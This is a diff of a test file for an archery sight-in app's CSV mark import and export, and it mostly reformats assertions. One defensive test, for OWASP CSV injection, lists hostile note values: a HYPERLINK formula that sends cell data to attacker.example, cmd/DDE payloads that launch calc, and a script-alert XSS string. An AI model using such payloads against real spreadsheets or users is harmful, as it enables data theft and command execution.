@@ -53,7 +53,14 @@ describe('importing marks from CSV', () => {
     expect(saved.status).toBe(201);
     expect(saved.body.saved).toBe(true);
     const after = (await agent.get(`/api/sight-ins/${sightIn.id}`)).body.sightIn;
-    expect(after.marks.map((m: { distance: number; unit: string }) => `${m.distance} ${m.unit}`)).toEqual(['20 yd', '40 yd', '60 yd', '30 yd', '50 yd', '45 m']);
+    expect(after.marks.map((m: { distance: number; unit: string }) => `${m.distance} ${m.unit}`)).toEqual([
+      '20 yd',
+      '40 yd',
+      '60 yd',
+      '30 yd',
+      '50 yd',
+      '45 m',
+    ]);
     expect(after.fit.residuals).toHaveLength(6);
   });
 
@@ -65,7 +72,9 @@ describe('importing marks from CSV', () => {
       .set('Content-Type', 'text/csv')
       .send(`30,${yd(30)}\n70,${yd(70)},5,long one\n`);
     expect(res.status).toBe(200);
-    expect(res.body.rows.map((r: { mark: { distance: number; arrowsShot: number | null } }) => [r.mark.distance, r.mark.arrowsShot])).toEqual([
+    expect(
+      res.body.rows.map((r: { mark: { distance: number; arrowsShot: number | null } }) => [r.mark.distance, r.mark.arrowsShot]),
+    ).toEqual([
       [30, null],
       [70, 5],
     ]);
@@ -108,11 +117,14 @@ describe('importing marks from CSV', () => {
 
   it('names problems with the file as a whole', async () => {
     const { agent, sightIn } = await archerWithSightIn();
-    const cases: Array<[string, RegExp]> = [
+    const cases: [string, RegExp][] = [
       ['distance,reading\r\n"30,12.5\r\n', /not valid CSV: A quoted field that starts on line 2 is never closed/],
       ['yardage,sight\r\n30,12\r\n', /no distance or reading column/],
       ['distance,reading\r\n\r\n', /no rows of marks/],
-      [['distance,reading', ...Array.from({ length: 28 }, (_, i) => `${70 + i},${30 + i}`)].join('\n'), /has 3 marks and the file adds 28; a sight-in holds at most 30/],
+      [
+        ['distance,reading', ...Array.from({ length: 28 }, (_, i) => `${70 + i},${30 + i}`)].join('\n'),
+        /has 3 marks and the file adds 28; a sight-in holds at most 30/,
+      ],
     ];
     for (const [csv, problem] of cases) {
       const preview = await agent.post(importPath(sightIn.id, true)).set(CSRF).send({ csv });
@@ -131,19 +143,35 @@ describe('importing marks from CSV', () => {
     expect(Buffer.byteLength(big)).toBeGreaterThan(200 * 1024);
     const tooBig = await agent.post(importPath(sightIn.id, true)).set(CSRF).send({ csv: big });
     expect(tooBig.status).toBe(413);
-    expect(tooBig.body.error).toEqual({ code: 'file_too_large', message: expect.stringMatching(/^The file is \d+ KB; at most 200 KB can be imported at once/) });
+    expect(tooBig.body.error).toEqual({
+      code: 'file_too_large',
+      message: expect.stringMatching(/^The file is \d+ KB; at most 200 KB can be imported at once/),
+    });
 
     const many = `distance,reading\n${Array.from({ length: 501 }, (_, i) => `${i % 100},10`).join('\n')}`;
     const tooMany = await agent.post(importPath(sightIn.id, true)).set(CSRF).send({ csv: many });
     expect(tooMany.status).toBe(413);
-    expect(tooMany.body.error).toEqual({ code: 'too_many_rows', message: 'The file has 501 rows of marks; at most 500 can be imported at once.' });
+    expect(tooMany.body.error).toEqual({
+      code: 'too_many_rows',
+      message: 'The file has 501 rows of marks; at most 500 can be imported at once.',
+    });
   });
 
   it('keeps hostile notes as plain text and neutralises them in the exported CSV (OWASP CSV Injection)', async () => {
     const { agent, sightIn, bow } = await archerWithSightIn();
-    const hostile = ['=HYPERLINK("http://attacker.example/?d="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\'/C calc\'!A0', '\t=1+1', '<script>alert(1)</script>'];
+    const hostile = [
+      '=HYPERLINK("http://attacker.example/?d="&A1,"click")',
+      "+cmd|' /C calc'!A0",
+      '-2+3',
+      "@SUM(1+1)*cmd|'/C calc'!A0",
+      '\t=1+1',
+      '<script>alert(1)</script>',
+    ];
     const distances = [25, 35, 45, 55, 65, 75];
-    const csv = ['distance,reading,note', ...hostile.map((note, i) => `${distances[i]},${yd(distances[i])},"${note.replace(/"/g, '""')}"`)].join('\r\n');
+    const csv = [
+      'distance,reading,note',
+      ...hostile.map((note, i) => `${distances[i]},${yd(distances[i])},"${note.replace(/"/g, '""')}"`),
+    ].join('\r\n');
     const res = await agent.post(importPath(sightIn.id, false)).set(CSRF).send({ csv });
     expect(res.status).toBe(201);
     const stored = (await agent.get(`/api/sight-ins/${sightIn.id}`)).body.sightIn.marks.slice(3).map((m: { note: string }) => m.note);
@@ -154,7 +182,10 @@ describe('importing marks from CSV', () => {
     expect(exported.status).toBe(200);
     const rows = parseCsv(exported.text);
     const noteColumn = rows[0].indexOf('mark_note');
-    const notes = rows.slice(1).map((row) => row[noteColumn]).filter((note) => note !== '');
+    const notes = rows
+      .slice(1)
+      .map((row) => row[noteColumn])
+      .filter((note) => note !== '');
     for (const note of notes) expect(note).not.toMatch(/^[=+\-@\t\r]/);
     expect(notes).toEqual(expect.arrayContaining([`'${hostile[0]}`, `'${hostile[1]}`, "'-2+3", `'${hostile[3]}`, "'=1+1", hostile[5]]));
   });
@@ -188,7 +219,10 @@ describe('who may import', () => {
 describe('exporting a bow', () => {
   it('gives builds, sight-ins and marks as one CSV table and as JSON, to the bow’s readers only', async () => {
     const { agent, bow, build, sightIn } = await archerWithSightIn();
-    await agent.post(`/api/bows/${bow.id}/builds`).set(CSRF).send({ ...(await agent.get(`/api/builds/${build.id}`)).body.build, name: 'Spare build' });
+    await agent
+      .post(`/api/bows/${bow.id}/builds`)
+      .set(CSRF)
+      .send({ ...(await agent.get(`/api/builds/${build.id}`)).body.build, name: 'Spare build' });
 
     const csv = await agent.get(`/api/bows/${bow.id}/export.csv`);
     expect(csv.status).toBe(200);
